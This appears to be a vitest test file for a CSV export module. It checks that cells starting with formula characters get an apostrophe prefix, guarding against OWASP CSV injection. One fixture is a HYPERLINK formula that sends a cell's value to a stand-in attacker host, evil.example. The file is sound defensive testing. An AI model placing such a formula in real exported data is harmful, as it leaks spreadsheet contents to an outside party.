import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutraliseCell, toCsv } from "../../app/exports/csv";

describe("CSV export (OWASP CSV injection)", () => {
  it("prefixes every text cell that starts with = + - @, tab or carriage return with an apostrophe", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) expect(neutraliseCell(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const safe of ["PT TPR Indonesia", "1+1", "a=b", "", " =x", "'=x"]) expect(neutraliseCell(safe)).toBe(safe);
  });

  it("keeps numbers as numbers (a negative amount is not text) and round-trips through a CSV parser", () => {
    const csv = toCsv([
      ["name", "amount"],
      ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', -5],
      ["@SUM(A1:A2)", 1250000],
      ["CV Cor Logam, Ceper", 0],
    ]);
    const rows = parse(csv) as string[][];
    expect(rows).toEqual([
      ["name", "amount"],
      ['\'=HYPERLINK("http://evil.example/?x="&A1,"klik")', "-5"],
      ["'@SUM(A1:A2)", "1250000"],
      ["CV Cor Logam, Ceper", "0"],
    ]);
  });
});
